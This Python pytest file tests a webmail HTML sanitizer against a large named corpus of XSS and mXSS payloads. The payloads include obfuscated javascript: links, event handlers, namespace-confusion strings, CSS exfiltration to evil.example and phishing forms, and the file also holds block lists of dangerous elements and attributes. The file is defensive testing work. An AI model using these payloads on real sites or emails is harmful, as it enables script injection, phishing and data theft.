# ruff: noqa: E501 - one payload per line reads best
"""Regression corpus: each case is named after the attack it stops.

Every payload is sanitized twice (remote content blocked, then allowed) and the output
goes through `assert_safe`, a strict checker that re-parses it with an HTML5 parser
and looks at what a browser would build. Some cases add a specific expectation.

To add a case: reproduce the attack as a payload, name it after the attack, and add
an expectation if the generic checker alone would not show what is stopped.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from urllib.parse import quote
from xml.etree.ElementTree import Element

import pytest
import tinycss2
from bleach._vendor import html5lib
from tinycss2 import ast

from webmail.sanitize import SanitizedHtml, policy, sanitize_html

PART_PREFIX = "/parts/"


def cid_url(cid: str) -> str | None:
    return None if cid == "missing" else PART_PREFIX + quote(cid, safe="@")


def sanitize(payload: str, *, allow_remote: bool) -> SanitizedHtml:
    return sanitize_html(payload, cid_url=cid_url, allow_remote=allow_remote)


# ------------------------------------------------------------------------------ checker

# Kept independent of `policy` on purpose: even if the policy grew one of these, the
# corpus would fail.
NEVER_ELEMENTS = frozenset(
    {
        "applet", "audio", "base", "basefont", "bgsound", "button", "canvas", "details",
        "dialog", "embed", "form", "frame", "frameset", "iframe", "input", "isindex",
        "keygen", "link", "marquee", "math", "meta", "noembed", "noframes", "noscript",
        "object", "param", "picture", "plaintext", "portal", "script", "select", "source",
        "svg", "template", "textarea", "title", "track", "video", "xmp",
    }
)  # fmt: skip
NEVER_ATTRIBUTES = frozenset(
    {
        "action", "background", "codebase", "data", "download", "dynsrc", "formaction",
        "http-equiv", "lowsrc", "name", "ping", "poster", "srcdoc", "srcset", "usemap",
        "xlink:href", "xmlns",
    }
)  # fmt: skip
# Old and new ways of running code, loading things or escaping the flow from CSS.
CSS_NEVER = ("expression", "javascript", "vbscript", "import", "behavior", "binding",
             "position", "z-index", "font-face", "var", "attr", "image-set")  # fmt: skip
LINK_PREFIXES = ("http://", "https://", "mailto:", PART_PREFIX)
REMOTE_PREFIXES = ("http://", "https://")

_PARSER = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree"), namespaceHTMLElements=False)


def parse(markup: str) -> Element:
    return _PARSER.parseFragment(markup)


def url_as_browser_reads(value: str) -> str:
    """Drop what browsers ignore in a scheme (controls, whitespace, NBSP), lowercase."""
    return re.sub(r"[\x00-\x20\x7f-\xa0\s]", "", value).lower()


def _all_tokens(tokens: Iterable[ast.Node]) -> Iterator[ast.Node]:
    for token in tokens:
        yield token
        if isinstance(token, ast.FunctionBlock):
            yield from _all_tokens(token.arguments)
        elif isinstance(token, ast.ParenthesesBlock | ast.SquareBracketsBlock | ast.CurlyBracketsBlock):
            yield from _all_tokens(token.content)


def _assert_value_safe(tokens: Iterable[ast.Node], *, allow_remote: bool) -> None:
    """Check CSS tokens as a browser reads them (escapes decoded, comments gone)."""
    allowed_urls = (PART_PREFIX, *REMOTE_PREFIXES) if allow_remote else (PART_PREFIX,)
    for token in _all_tokens(tokens):
        if isinstance(token, ast.IdentToken | ast.AtKeywordToken | ast.HashToken):
            name = token.value.lower()
        elif isinstance(token, ast.FunctionBlock):
            name = token.lower_name
            assert name in policy.CSS_FUNCTIONS or name == "url", f"{name}()"
        else:
            name = ""
        for word in CSS_NEVER:
            assert word not in name, f"{word!r} in CSS {name!r}"
        url = None
        if isinstance(token, ast.URLToken):
            url = token.value
        elif isinstance(token, ast.FunctionBlock) and token.lower_name == "url":
            url = "".join(t.value for t in token.arguments if isinstance(t, ast.StringToken))
        if url is not None:
            assert url_as_browser_reads(url).startswith(allowed_urls), f"url({url})"


def _assert_declarations_safe(content: str | list[ast.Node], *, allow_remote: bool) -> None:
    for item in tinycss2.parse_declaration_list(content, skip_whitespace=True):
        if isinstance(item, ast.Comment):
            continue
        assert isinstance(item, ast.Declaration), f"not a declaration: {item!r}"
        assert item.lower_name in policy.ALLOWED_CSS_PROPERTIES, item.lower_name
        _assert_value_safe(item.value, allow_remote=allow_remote)


def assert_style_attribute_safe(value: str, *, allow_remote: bool) -> None:
    _assert_declarations_safe(value, allow_remote=allow_remote)


def assert_stylesheet_safe(css: str, *, allow_remote: bool) -> None:
    assert "<" not in css, css
    rules = tinycss2.parse_stylesheet(css, skip_whitespace=True, skip_comments=True)
    for rule in rules:
        if isinstance(rule, ast.AtRule):
            assert rule.lower_at_keyword == "media", f"@{rule.lower_at_keyword}"
            assert rule.content is not None
            inner = tinycss2.parse_rule_list(rule.content, skip_whitespace=True)
            assert all(isinstance(r, ast.QualifiedRule) for r in inner)
        else:
            inner = [rule]
        for qualified in inner:
            assert isinstance(qualified, ast.QualifiedRule), f"not a rule: {qualified!r}"
            selectors = tinycss2.serialize(qualified.prelude).split(",")
            for selector in selectors:
                assert selector.strip().startswith("." + policy.CONTAINER_CLASS), selector
            _assert_value_safe(qualified.prelude, allow_remote=allow_remote)
            _assert_declarations_safe(qualified.content, allow_remote=allow_remote)


def assert_attributes_safe(tag: str, attrib: dict[str, str], *, allow_remote: bool) -> None:
    forced = policy.FORCED_ATTRIBUTES.get(tag, {})
    for name, value in attrib.items():
        assert not name.lower().startswith("on"), f"event handler {name} on <{tag}>"
        assert name not in NEVER_ATTRIBUTES, f"{name} on <{tag}>"
        if name in forced:
            assert value == forced[name], f"{name}={value!r} on <{tag}>"
        else:
            assert name in policy.allowed_attributes(tag), f"{name} on <{tag}>"
        if name not in ("title", "alt"):
            assert "alert(" not in value, f"{name}={value!r} on <{tag}>"
            assert "javascript:" not in url_as_browser_reads(value), f"{name}={value!r}"
        if name == "href":
            assert url_as_browser_reads(value).startswith(LINK_PREFIXES), value
        if name == "src":
            allowed = (PART_PREFIX, *REMOTE_PREFIXES) if allow_remote else (PART_PREFIX,)
            assert url_as_browser_reads(value).startswith(allowed), value
        if name == "style":
            assert_style_attribute_safe(value, allow_remote=allow_remote)
        if name == "class":
            for token in value.split():
                assert token.startswith(policy.NAME_PREFIX) or (
                    tag == "div" and token == policy.CONTAINER_CLASS
                ), f"class {token!r}"
        if name == "id":
            assert value.startswith(policy.NAME_PREFIX), f"id {value!r}"
    if tag == "a" and "href" in attrib:
        assert attrib.get("target") == "_blank"
        assert set(attrib.get("rel", "").split()) >= {"noopener", "noreferrer"}


def tree_shape(root: Element) -> list[object]:
    return [(node.tag, sorted(node.attrib.items()), node.text or "", node.tail or "") for node in root.iter()]


def serialize(root: Element) -> str:
    walker = html5lib.getTreeWalker("etree")
    serializer = html5lib.serializer.HTMLSerializer(quote_attr_values="always", omit_optional_tags=False)
    return serializer.render(walker(root))


def assert_safe(result: SanitizedHtml, *, allow_remote: bool) -> Element:
    """Check the output the way a browser would see it; return its parse tree."""
    fragment = parse(result.html)
    top = list(fragment)
    assert not (fragment.text or "").strip(), "text outside the container"
    if top and top[0].tag == "style":
        assert_stylesheet_safe(top[0].text or "", allow_remote=allow_remote)
        assert list(top[0]) == []
        top = top[1:]
    assert len(top) == 1, "exactly one container"
    container = top[0]
    assert container.tag == "div"
    assert policy.CONTAINER_CLASS in container.get("class", "").split()
    assert not (container.tail or "").strip()

    for node in container.iter():
        assert isinstance(node.tag, str), "comment or other non-element node"
        assert not node.tag.startswith("{"), f"foreign element {node.tag}"
        assert node.tag not in NEVER_ELEMENTS, f"<{node.tag}>"
        assert node.tag in policy.ALLOWED_TAGS, f"<{node.tag}>"
        assert_attributes_safe(node.tag, dict(node.attrib), allow_remote=allow_remote)

    # No mutation on a second parse (the mXSS signature): what we emit parses into
    # the same tree again.
    assert tree_shape(parse(serialize(fragment))) == tree_shape(fragment)
    return container


# ------------------------------------------------------------------------- expectations


@dataclass(frozen=True)
class Expect:
    """Extra expectations for one payload (all case-insensitive)."""

    text: tuple[str, ...] = ()  # visible text that must survive
    absent: tuple[str, ...] = ()  # substrings that must not be anywhere in the output
    check: Callable[[SanitizedHtml, Element, bool], None] | None = None


def text_of(container: Element) -> str:
    return "".join(container.itertext())


def _no_img_loads(result: SanitizedHtml, container: Element, allow_remote: bool) -> None:
    # The payloads' `<img src=x onerror=...>`: if an img survives, it is inert.
    assert all(not img.attrib for img in container.iter("img")), result.html


SCRIPT_GONE = Expect(absent=("alert", "<script"))
HANDLER_GONE = Expect(absent=("<svg", "<math", "<script", "<style"), check=_no_img_loads)


def _remote_counted(count: int) -> Callable[[SanitizedHtml, Element, bool], None]:
    def check(result: SanitizedHtml, container: Element, allow_remote: bool) -> None:
        assert result.remote_blocked == (0 if allow_remote else count)

    return check


def _nothing_counted(result: SanitizedHtml, container: Element, allow_remote: bool) -> None:
    assert result.remote_blocked == 0


def _link_kept_text_without_href(text: str) -> Callable[[SanitizedHtml, Element, bool], None]:
    def check(result: SanitizedHtml, container: Element, allow_remote: bool) -> None:
        links = container.findall(".//a")
        assert links, "the <a> element itself stays"
        assert all("href" not in a.attrib for a in links)
        assert text in text_of(container)

    return check


def _a_href(expected: str) -> Callable[[SanitizedHtml, Element, bool], None]:
    def check(result: SanitizedHtml, container: Element, allow_remote: bool) -> None:
        assert [a.get("href") for a in container.findall(".//a")] == [expected]

    return check


# ------------------------------------------------------------------------------ corpus

# fmt: off
PAYLOADS: list[tuple[str, str, Expect]] = [
    # --- script, the obvious way and its variants
    ("script_tag", "<p>hi</p><script>alert(1)</script>", Expect(text=("hi",), absent=("alert",))),
    ("script_uppercase_src", '<SCRIPT SRC="http://xss.example/x.js"></SCRIPT>', Expect(absent=("xss.example",), check=_nothing_counted)),
    ("script_split_tag", "<scr<script>ipt>alert(1)</scr</script>ipt>", Expect(absent=("<script",))),
    ("script_in_title_attribute", '<p title="</p><script>alert(1)</script>">x</p>', Expect(text=("x",), absent=("<script",))),
    ("script_after_html_end", "<html><body>hi</body></html><script>alert(1)</script>", SCRIPT_GONE),
    ("script_in_head", "<head><script>alert(1)</script></head><body>hi</body>", SCRIPT_GONE),
    ("script_self_closing", "<script src=//xss.example/x.js />hi", Expect(absent=("xss.example",))),
    # --- event handlers
    ("img_onerror", "<img src=x onerror=alert(1)>", HANDLER_GONE),
    ("img_onerror_slash_separators", "<img/src=x/onerror=alert(1)>", HANDLER_GONE),
    ("img_onerror_formfeed_separator", "<img src=x\x0conerror=alert(1)>", HANDLER_GONE),
    ("on_attribute_uppercase", '<p ONMOUSEOVER="alert(1)">x</p>', Expect(text=("x",), absent=("onmouseover", "alert"))),
    ("on_attribute_after_slash", "<p/onmouseover=alert(1)>x</p>", Expect(text=("x",), absent=("alert",))),
    ("body_onload", "<body onload=alert(1)>hi</body>", Expect(text=("hi",), absent=("onload", "alert"))),
    ("marquee_onstart", "<marquee onstart=alert(1)>scroll</marquee>", Expect(text=("scroll",), absent=("alert",))),
    ("details_ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>d</details>", Expect(text=("d",), absent=("ontoggle",))),
    ("attribute_quote_confusion", '<a href="https://ok.example/" title=\'" onmouseover=alert(1) x="\'>x</a>', Expect(text=("x",), check=_a_href("https://ok.example/"))),
    ("unquoted_attribute_breakout", "<a href=https://ok.example/ onmouseover=alert(1)>x</a>", Expect(absent=("onmouseover",))),
    # --- SVG and MathML (foreign content)
    ("svg_onload", "<svg onload=alert(1)>", Expect(absent=("svg", "alert"))),
    ("svg_script", "<svg><script>alert(1)</script></svg>", SCRIPT_GONE),
    ("svg_use_data_href", '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>', Expect(absent=("data:", "use"))),
    ("svg_animate_href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>click</text></a></svg>", Expect(absent=("javascript", "animate"))),
    ("svg_xlink_href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', Expect(absent=("javascript",))),
    ("svg_foreignobject_iframe", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", Expect(absent=("iframe", "javascript"))),
    ("data_svg_img", '<img src="data:image/svg+xml,<svg onload=alert(1)>">', Expect(absent=("data:", "onload"))),
    ("mathml_href", '<math href="javascript:alert(1)"><mtext>click</mtext></math>', Expect(absent=("javascript", "math"))),
    ("mathml_maction_xlink", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>', Expect(absent=("javascript",))),
    ("mathml_mglyph_style_mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", HANDLER_GONE),
    ("namespace_confusion_svg_style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', HANDLER_GONE),
    ("namespace_confusion_math_style", '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>', HANDLER_GONE),
    ("namespace_confusion_form_math", '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', HANDLER_GONE),
    # --- link schemes and their obfuscations
    ("a_href_javascript", '<a href="javascript:alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("a_href_vbscript", '<a href="vbscript:msgbox(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("a_href_data_html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("a_href_file", '<a href="file:///etc/passwd">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("a_href_relative_to_webmail", '<a href="/logout">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("a_href_backslash_host", '<a href="\\\\evil.example/x">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("a_href_fragment_only", '<a href="#top">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("mixed_case_scheme", '<a href="JaVaScRiPt:alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("entity_encoded_javascript", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("entity_hex_without_semicolons", '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("entity_padded_decimal", '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("entity_named_colon", '<a href="javascript&colon;alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("tab_in_scheme", '<a href="java&#x09;script:alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("raw_tab_in_scheme", '<a href="java\tscript:alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("newline_in_scheme", '<a href="java&#x0A;scr&#x0D;ipt:alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("null_byte_scheme", '<a href="java\x00script:alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("null_entity_scheme", '<a href="java&#0;script:alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("leading_control_chars_scheme", '<a href=" \x01\x0b&#x1F;javascript:alert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("fullwidth_colon_scheme", '<a href="javascript\uff1aalert(1)">click</a>', Expect(check=_link_kept_text_without_href("click"))),
    ("xlink_href_on_html_a", '<a xlink:href="javascript:alert(1)">click</a>', Expect(absent=("javascript",))),
    ("html_smuggling_download", '<a href="data:application/octet-stream;base64,TVqQ" download="invoice.exe">invoice</a>', Expect(absent=("download", "data:"), text=("invoice",))),
    ("a_ping_tracker", '<a href="https://ok.example/" ping="http://tracker.example/">x</a>', Expect(absent=("ping", "tracker"))),
    ("target_and_rel_override", '<a href="https://ok.example/" target="_top" rel="opener">x</a>', Expect(absent=("_top", "opener\""))),
    # --- CSS
    ("style_expression", '<p style="width: expression(alert(1))">x</p>', Expect(text=("x",), absent=("expression",))),
    ("style_url_javascript", '<p style="background-image: url(javascript:alert(1))">x</p>', Expect(text=("x",), absent=("javascript",))),
    ("style_url_quoted_javascript", "<p style=\"background: url('javascript:alert(1)') red\">x</p>", Expect(absent=("javascript",))),
    ("style_import", "<p style=\"@import 'http://evil.example/x.css'; color: red\">x</p>", Expect(absent=("@import", "evil.example"))),
    ("style_behavior", '<p style="behavior: url(xss.htc)">x</p>', Expect(absent=("behavior", "htc"))),
    ("moz_binding", '<p style="-moz-binding: url(http://evil.example/xss.xml#xss)">x</p>', Expect(absent=("binding", "evil.example"), check=_nothing_counted)),
    ("css_unicode_escape_expression", '<p style="width: e\\78 pression(alert(1))">x</p>', Expect(absent=("pression",))),
    ("css_comment_in_expression", '<p style="width: expr/**/ession(alert(1))">x</p>', Expect(absent=("ession",))),
    ("css_escaped_url_function", '<p style="background: u\\72 l(javascript:alert(1))">x</p>', Expect(absent=("alert",))),
    ("css_escaped_scheme_in_url", '<p style="background: url(jav\\61 script:alert(1))">x</p>', Expect(absent=("alert",))),
    ("css_entity_semicolon_smuggling", '<p style="color: red&#59; background-image: url(javascript:alert(1))">x</p>', Expect(absent=("javascript",))),
    ("css_entity_quote_smuggling", '<p style="font-family: &quot;x&quot;; background: url(&quot;javascript:alert(1)&quot;)">x</p>', Expect(absent=("javascript",))),
    ("css_entity_in_string_breakout", "<p style=\"font-family: '\\27 \\26 quot;;position:fixed;background-image:url(http://tracker.example/x)'\">x</p>", Expect(absent=("&quot;",), check=_nothing_counted)),
    ("css_numeric_entity_in_string_breakout", "<p style=\"font-family: '\\27 \\26 #34;;position:fixed'\">x</p>", Expect(absent=("&#34;",))),
    ("css_entity_in_url_breakout", "<p style=\"background: url('https://a.example/?\\27 \\26 quot;);position:fixed;x:(')\">x</p>", Expect(absent=("&quot;",))),
    ("css_position_fixed_overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Log in again</div>', Expect(text=("Log in again",), absent=("position", "z-index"))),
    ("css_var_function", '<p style="color: var(--x)">x</p>', Expect(absent=("var(",))),
    ("css_image_set_remote", '<p style="background-image: image-set(url(http://evil.example/x.png) 1x)">x</p>', Expect(absent=("evil.example",))),
    ("css_gradient_with_url", '<p style="background-image: linear-gradient(red, blue), url(javascript:alert(1))">x</p>', Expect(absent=("javascript",))),
    ("css_bidi_override_spoof", '<span style="unicode-bidi: bidi-override; direction: rtl">exe.pdf</span>', Expect(absent=("bidi",))),
    ("css_content_injection", '<style>p::before { content: "Your account is locked" }</style><p>x</p>', Expect(absent=("locked",))),
    ("css_remote_background_tracker", '<div style="background: url(http://tracker.example/p.gif) #fff">x</div>', Expect(check=_remote_counted(1))),
    ("style_element_expression", "<style>p { width: expression(alert(1)) }</style><p>x</p>", Expect(absent=("expression",))),
    ("style_element_import", "<style>@import url(http://evil.example/x.css); p { color: red }</style><p>x</p>", Expect(absent=("@import", "evil.example"), check=_nothing_counted)),
    ("style_element_font_face", "<style>@font-face { font-family: x; src: url(http://evil.example/f.woff) }</style>x", Expect(absent=("font-face", "evil.example"), check=_nothing_counted)),
    ("style_element_attribute_exfiltration", '<style>a[href^="https://a"] { background: url(http://evil.example/?a) }</style><a href="https://ab.example/">x</a>', Expect(absent=("[href",))),
    ("style_element_string_breakout", '<style>p { font-family: "</style><script>alert(1)</script>" }</style><p>x</p>', Expect(absent=("<script",))),
    ("style_element_escaped_breakout", '<style>p { font-family: "\\3c/style\\3e\\3cscript\\3e alert(1)" }</style><p>x</p>', Expect(absent=("</style><script",))),
    ("style_element_restyles_app", "<style>.navbar, #logout, body { display: none }</style>x", Expect(absent=(".navbar", "#logout"))),
    ("style_in_svg_namespace", "<svg><style>*{background:url(http://evil.example/x)}</style></svg>x", Expect(absent=("evil.example",), check=_nothing_counted)),
    # --- elements that load, navigate, submit or embed
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', Expect(absent=("refresh", "javascript"))),
    ("meta_charset_utf7", '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-', Expect(absent=("charset", "<script"))),
    ("base_href", '<base href="javascript:alert(1)//"><a href="https://ok.example/">x</a>', Expect(absent=("<base", "javascript"))),
    ("link_stylesheet", '<link rel="stylesheet" href="http://evil.example/x.css">x', Expect(absent=("evil.example",), check=_nothing_counted)),
    ("link_prefetch_tracker", '<link rel="prefetch" href="http://tracker.example/">x', Expect(absent=("tracker",))),
    ("form_action", '<form action="javascript:alert(1)"><input type="submit" value="Go"></form>', Expect(absent=("<form", "action", "<input"))),
    ("form_phishing_password", '<form action="https://evil.example/"><input type="password" name="pw">Password</form>', Expect(text=("Password",), absent=("evil.example", "password\""))),
    ("formaction_button", '<button formaction="javascript:alert(1)">Click</button>', Expect(text=("Click",), absent=("formaction", "<button"))),
    ("input_image_src", '<input type="image" src="javascript:alert(1)">', Expect(absent=("javascript", "<input"))),
    ("input_autofocus_onfocus", "<input autofocus onfocus=alert(1)>", Expect(absent=("onfocus", "alert"))),
    ("isindex", '<isindex action="javascript:alert(1)" type="image">', Expect(absent=("isindex", "javascript"))),
    ("iframe_srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', Expect(absent=("iframe", "srcdoc", "alert"))),
    ("iframe_src_javascript", '<iframe src="javascript:alert(1)"></iframe>', Expect(absent=("iframe", "javascript"))),
    ("object_data", '<object data="javascript:alert(1)"></object>', Expect(absent=("object", "javascript"))),
    ("object_param", '<object><param name="src" value="javascript:alert(1)"></object>', Expect(absent=("param", "javascript"))),
    ("embed_src", '<embed src="data:text/html,<script>alert(1)</script>">', Expect(absent=("embed", "alert"))),
    ("applet_code", '<applet code="Evil.class" codebase="http://evil.example/"></applet>', Expect(absent=("applet", "evil.example"))),
    ("frameset", '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>', Expect(absent=("frame", "alert"))),
    ("video_poster", '<video poster="javascript:alert(1)"><source src=x onerror=alert(1)></video>', Expect(absent=("video", "poster", "alert"))),
    ("audio_src", "<audio src=x onerror=alert(1)>", Expect(absent=("audio", "alert"))),
    ("select_option", "<select><option>a</option></select>", Expect(absent=("select", "option"))),
    ("dialog_open", "<dialog open>Pay now<button>ok</button></dialog>", Expect(absent=("dialog", "Pay now"))),
    ("portal_src", '<portal src="https://evil.example/"></portal>', Expect(absent=("portal", "evil.example"))),
    # --- raw text / RCDATA elements and parser differentials (mXSS)
    ("noscript_mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', HANDLER_GONE),
    ("template_mxss", '<template><style></template><img src=x onerror=alert(1)></style></template>', HANDLER_GONE),
    ("template_script", "<template><script>alert(1)</script></template>", SCRIPT_GONE),
    ("textarea_breakout", "<textarea><img src=x onerror=alert(1)></textarea>", HANDLER_GONE),
    ("title_breakout", "<title><img src=x onerror=alert(1)></title>", HANDLER_GONE),
    ("xmp_breakout", "<xmp><img src=x onerror=alert(1)></xmp>", Expect(absent=("<img", "<xmp"))),
    ("plaintext_breakout", "<plaintext><img src=x onerror=alert(1)>", Expect(absent=("<img", "plaintext"))),
    ("noembed_breakout", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>', HANDLER_GONE),
    ("noframes_breakout", '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>', HANDLER_GONE),
    ("iframe_text_breakout", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>', HANDLER_GONE),
    ("comment_breakout", '<!--<img src="--><img src=x onerror=alert(1)//">', HANDLER_GONE),
    ("comment_conditional_ie", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x", SCRIPT_GONE),
    ("comment_bang_close", "<!-- --!><img src=x onerror=alert(1)> -->", HANDLER_GONE),
    ("cdata_breakout", "<![CDATA[<]]><img src=x onerror=alert(1)//>", HANDLER_GONE),
    ("processing_instruction", "<?xml-stylesheet href='http://evil.example/x.xsl'?>x", Expect(absent=("evil.example",))),
    ("broken_markup_unclosed", '<img src="x" onerror="alert(1)"', HANDLER_GONE),
    ("broken_markup_unclosed_href", '<a href="javascript:alert(1)', Expect(absent=("javascript",))),
    ("broken_markup_nested_a_table", '<a href="https://ok.example/"><table><a href="javascript:alert(1)">x</a></table></a>', Expect(absent=("javascript",))),
    ("broken_markup_misnested_formatting", "<b><p><i>x</b>y<img src=x onerror=alert(1)></i>", HANDLER_GONE),
    ("escaped_text_stays_text", "&lt;script&gt;alert(1)&lt;/script&gt;", Expect(text=("<script>alert(1)</script>",), absent=("<script",))),
    # --- remote content and tracking
    ("srcset_remote", '<img srcset="http://tracker.example/p.gif 1x" alt="a">', Expect(absent=("srcset", "tracker"))),
    ("picture_source_srcset", '<picture><source srcset="http://tracker.example/p.gif"><img src="cid:logo"></picture>', Expect(absent=("tracker",))),
    ("background_attr", '<body background="http://tracker.example/bg.gif">x</body>', Expect(absent=("background", "tracker"))),
    ("table_background_js", '<table background="javascript:alert(1)"><tr><td background="http://tracker.example/p.gif">x</td></tr></table>', Expect(absent=("background", "javascript", "tracker"))),
    ("img_remote_tracker", '<img src="http://tracker.example/open.gif?u=1" width="1" height="1">', Expect(check=_remote_counted(1))),
    ("img_protocol_relative_tracker", '<img src="//tracker.example/open.gif">', Expect(check=_remote_counted(1))),
    ("img_src_javascript", '<img src="javascript:alert(1)">', Expect(absent=("javascript",))),
    ("img_src_vbscript", '<img src="vbscript:msgbox(1)">', Expect(absent=("vbscript",))),
    ("img_src_file", '<img src="file:///etc/passwd">', Expect(absent=("file:",))),
    ("img_src_data_png", '<img src="data:image/png;base64,iVBORw0KGgo=">', Expect(absent=("data:",))),
    ("img_src_relative_to_webmail", '<img src="/logout">', Expect(absent=("logout",))),
    ("img_dynsrc_lowsrc", '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">', Expect(absent=("javascript",))),
    ("img_usemap_area", '<img src="cid:a" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>', Expect(absent=("javascript", "usemap"))),
    ("img_forged_remote_marker", '<img data-remote-blocked="javascript:alert(1)" src="cid:a">', Expect(absent=("javascript", "data-remote-blocked"))),
    ("cid_missing_part", '<img src="cid:missing">', Expect(absent=("cid:", "src="))),
    ("cid_with_markup", '<img src="cid:&quot;&gt;&lt;script&gt;alert(1)">', Expect(absent=("<script",))),
    # --- DOM clobbering and the application's names
    ("dom_clobbering_name", '<img name="getElementById" src="cid:a"><a name="csrf">x</a>', Expect(absent=("getelementbyid", "csrf"))),
    ("dom_clobbering_id", '<a id="csrf_token" href="https://ok.example/">x</a>', Expect(absent=('id="csrf_token"',))),
    ("class_collides_with_app", '<div class="mail-body navbar">x</div>', Expect(absent=('class="mail-body navbar"',))),
]
# fmt: on


def test_corpus_is_large_enough_and_names_are_unique() -> None:
    names = [name for name, _, _ in PAYLOADS]
    assert len(names) >= 70
    assert len(set(names)) == len(names)


@pytest.mark.parametrize("allow_remote", [False, True], ids=["blocked", "allowed"])
@pytest.mark.parametrize(
    ("payload", "expect"),
    [pytest.param(payload, expect, id=name) for name, payload, expect in PAYLOADS],
)
def test_payload_is_neutralised(payload: str, expect: Expect, allow_remote: bool) -> None:
    result = sanitize(payload, allow_remote=allow_remote)
    container = assert_safe(result, allow_remote=allow_remote)
    lowered = result.html.lower()
    for needle in expect.absent:
        assert needle.lower() not in lowered, f"{needle!r} survived: {result.html}"
    for text in expect.text:
        assert text.lower() in text_of(container).lower(), f"{text!r} lost: {result.html}"
    if expect.check is not None:
        expect.check(result, container, allow_remote)


def test_checker_catches_an_unsafe_output() -> None:
    # The checker itself must be able to fail.
    unsafe = [
        '<div class="mail-body"><img src="x" onerror="alert(1)"></div>',
        '<div class="mail-body"><a href="java&#9;script:alert(1)" target="_blank" '
        'rel="noopener noreferrer">x</a></div>',
        '<div class="mail-body"><svg></svg></div>',
        '<div class="mail-body"><p style="width: e\\78pression(1)">x</p></div>',
        '<style>p { background: url(http://x.example/) }</style><div class="mail-body"></div>',
        '<div class="mail-body"><a href="https://x.example/">no target</a></div>',
        '<div class="mail-body"><p class="navbar">x</p></div>',
        '<div class="mail-body"></div><p>outside</p>',
        # What bleach's own CSSSanitizer + serializer made of css_entity_in_string_breakout:
        '<div class="mail-body"><p style="font-family: &quot;\'&quot;;position:fixed;&quot;;">x</p></div>',
        '<div class="mail-body"><p style="color: red; x: expr/**/ession(1)">x</p></div>',
    ]
    for html in unsafe:
        result = SanitizedHtml(html=html, remote_blocked=0, cid_refs=frozenset())
        with pytest.raises(AssertionError):
            assert_safe(result, allow_remote=False)
